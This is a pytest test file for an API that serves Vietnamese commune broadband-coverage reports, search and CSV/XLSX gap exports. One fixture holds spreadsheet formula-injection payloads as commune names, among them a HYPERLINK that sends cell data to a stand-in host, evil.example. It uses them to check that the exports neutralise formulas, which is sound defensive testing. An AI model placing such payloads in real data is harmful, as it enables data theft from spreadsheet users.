"""Endpoints for officials: summary, commune report, search, gap tables and exports."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from api.exports import ExportCache, to_csv, to_xlsx
from api.main import create_app
from api.results import fold
from api.settings import Settings
from geodx.contract_names import SYNTHETIC_NOTE

SPECIAL = 'Xã Ea <Tu> "Mới" & Co'


def test_summary_is_summary_json(client: TestClient, results_dir: Path) -> None:
    expected = json.loads((results_dir / "summary.json").read_text(encoding="utf-8"))
    assert client.get("/summary").json() == expected


def test_commune_report_figures_targets_gap_and_breakdowns(client: TestClient) -> None:
    body = client.get("/communes/24133").json()
    assert body["commune_name"] == SPECIAL
    assert body["district_name"] == "Thành phố Buôn Ma Thuột"
    assert body["synthetic"] is True
    fibre = next(t for t in body["targets"] if t["indicator"] == "fibre")
    assert fibre == {
        "indicator": "fibre",
        "target_pct": 90.0,
        "met": False,
        "gap_households": 53,
    }
    by_tech = {x["indicator"]: x for x in body["by_technology"]}
    assert by_tech["fibre"]["households"] == 12 and by_tech["mobile"]["pct"] == 100.0
    assert set(body["by_operator"]) == {"VNPT", "Viettel"}
    viettel = {x["id"]: x for x in body["by_operator"]["Viettel"]}
    assert viettel["viettel-4g"]["technology"] == "4G"
    assert viettel["Viettel 5G"]["households"] == 0
    assert body["definitions"]["targets"]["fibre_household_pct"] == 90.0
    assert "fibre" in body["definitions"]


def test_commune_without_households_has_null_flags(client: TestClient) -> None:
    body = client.get("/communes/24343").json()
    assert body["households"] == 0
    assert [t["met"] for t in body["targets"]] == [None, None]


@pytest.mark.parametrize(
    ("query", "codes"),
    [
        ("hoa phu", ["24121"]),
        ("HÒA PHÚ", ["24121"]),
        ("dak lieng", ["24340"]),
        ("ĐẮK", ["24340"]),
        ("tân", ["24115"]),
        ("ea <tu>", ["24133"]),
        ("2434", ["24340", "24343"]),
        ("xyz", []),
    ],
)
def test_search_ignores_case_and_diacritics(
    client: TestClient, query: str, codes: list[str]
) -> None:
    body = client.get("/communes", params={"q": query}).json()
    assert sorted(c["commune_code"] for c in body["communes"]) == codes
    assert body["count"] == len(codes)


def test_fold() -> None:
    assert fold("  Xã  Đắk Liêng ") == "xa dak lieng"
    assert fold("Hòa Phú") == fold("hoa phu") == fold("HOÀ PHÚ")


def test_gaps_json_largest_first_with_exact_names(client: TestClient) -> None:
    body = client.get("/gaps?indicator=fibre").json()
    assert [g["commune_code"] for g in body["gaps"]] == ["24133", "24115", "24340"]
    assert body["gaps"][0]["commune_name"] == SPECIAL
    assert body["target_pct"] == 90.0 and body["count"] == 3


def test_gaps_csv_has_bom_and_vietnamese_headers(client: TestClient) -> None:
    r = client.get("/gaps?indicator=fibre&format=csv&lang=vi")
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    # the header is the first line; the synthetic mark is a column of every row
    assert rows[0][:3] == ["Hạng", "Mã xã", "Tên xã"] and "Số hộ còn thiếu" in rows[0]
    assert rows[0][-1] == "Ghi chú" and {r[-1] for r in rows[1:]} == {SYNTHETIC_NOTE}
    assert rows[1][2] == SPECIAL and rows[1][5] == "Cáp quang"
    assert r.headers["link"] == '</summary>; rel="describedby"; type="application/json"'
    assert "synthetic" in r.headers["content-disposition"]
    english = client.get("/gaps?indicator=mobile&format=csv").content.decode(
        "utf-8-sig"
    )
    assert english.splitlines()[0].startswith("rank,commune_code,commune_name")


def test_gaps_xlsx_reads_back(client: TestClient) -> None:
    r = client.get("/gaps?indicator=fibre&format=xlsx&lang=vi")
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["Xã chưa đạt cáp quang", "Giới thiệu"]
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == SYNTHETIC_NOTE  # the title block starts with the mark
    at = [row[0] for row in rows].index("Hạng")
    assert rows[at - 1] == (None,) * len(rows[at])  # an empty row above the table
    assert rows[at][1] == "Mã xã" and rows[at + 1][2] == SPECIAL
    assert [row[10] for row in rows[at + 1 :]] == [53, 29, 5]
    assert book.active.freeze_panes == f"A{at + 2}"


def test_xlsx_never_turns_text_into_formulas() -> None:
    data = to_xlsx(
        pd.DataFrame({"name": ["=HYPERLINK(1)", "Xã A"], "n": [-1, 2]}), title="t"
    )
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["A2"].data_type == "s" and ws["A2"].value == "'=HYPERLINK(1)"
    assert ws["B2"].data_type == "n" and ws["B2"].value == -1


ATTACKS = {
    "24121": ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1+1"),
    "24115": ("-2+3", "@SUM(A1:A9)"),
    "24133": ("\tTab", "\rCR"),
    "24340": ("=1+1", "Huyện Lắk"),
}


@pytest.fixture(scope="module")
def attacked(
    results_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    out = tmp_path_factory.mktemp("attacked")
    for f in results_dir.iterdir():
        if f.is_file():
            shutil.copy(f, out / f.name)
    doc = json.loads((out / "communes.geojson").read_text(encoding="utf-8"))
    for feature in doc["features"]:
        props = feature["properties"]
        if props["commune_code"] in ATTACKS:
            props["commune_name"], props["district_name"] = ATTACKS[
                props["commune_code"]
            ]
    (out / "communes.geojson").write_text(json.dumps(doc), encoding="utf-8")
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    summary["synthetic"] = False
    (out / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    with TestClient(create_app(Settings(results_dir=out))) as client:
        yield client


def test_csv_neutralises_formulas_and_keeps_numbers(attacked: TestClient) -> None:
    for indicator in ("fibre", "mobile"):
        body = attacked.get(f"/gaps?indicator={indicator}&format=csv").content
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        assert rows[0][:2] == ["rank", "commune_code"]
        gap = rows[0].index("gap_households")
        for row in rows[1:]:
            for cell in (row[2], row[4]):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert float(row[6]) >= 0 and int(row[gap]) >= 0
            assert row[-1] == ""  # real data: no synthetic note
    fibre = attacked.get("/gaps?indicator=fibre&format=csv").content
    rows = list(csv.reader(io.StringIO(fibre.decode("utf-8-sig"))))
    names = {r[1]: (r[2], r[4]) for r in rows[1:]}
    assert names["24133"] == ("'\tTab", "'\rCR")
    assert names["24115"] == ("'-2+3", "'@SUM(A1:A9)")
    assert names["24340"] == ("'=1+1", "Huyện Lắk")


def test_xlsx_writes_attacker_names_as_text(attacked: TestClient) -> None:
    body = attacked.get("/gaps?indicator=fibre&format=xlsx").content
    book = openpyxl.load_workbook(io.BytesIO(body))
    ws = book.active
    assert ws["A1"].value == "Communes below the fibre target"  # real data: no mark
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    assert "'=1+1" in [c.value for c in ws["C"]]


def test_negative_numbers_stay_numbers_in_csv() -> None:
    body = to_csv(pd.DataFrame({"name": ["-5", "-x"], "n": [-3, -2.5]}))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1:] == [["-5", "-3.0"], ["'-x", "-2.5"]]


def test_exports_are_built_once_per_version_and_key(client: TestClient) -> None:
    results = client.app.state.results  # type: ignore[attr-defined]
    first = client.get("/gaps?indicator=mobile&format=xlsx&lang=vi").content
    builds = results._exports.builds
    for _ in range(3):
        assert client.get("/gaps?indicator=mobile&format=xlsx&lang=vi").content == first
    assert results._exports.builds == builds
    client.get("/gaps?indicator=mobile&format=xlsx&lang=en")
    assert results._exports.builds == builds + 1


@pytest.mark.parametrize(
    ("query", "codes"),
    [
        ("buon ma thuot", ["24115", "24121", "24133"]),
        ("Huyện Lắk", ["24340", "24343"]),
        ("dak-lieng", ["24340"]),
        ("daklieng", ["24340"]),
        ("'", []),
    ],
)
def test_search_folds_punctuation_and_finds_by_district(
    client: TestClient, query: str, codes: list[str]
) -> None:
    body = client.get("/communes", params={"q": query}).json()
    assert sorted(c["commune_code"] for c in body["communes"]) == codes


def test_export_cache_is_bounded_and_keyed() -> None:
    cache = ExportCache(size=2)
    for key in ("a", "b", "a", "c", "b"):
        cache.get(key, key.encode)
    assert cache.builds == 4  # "a" hit once; "b" was evicted by "c" and rebuilt
    assert len(cache._items) == 2
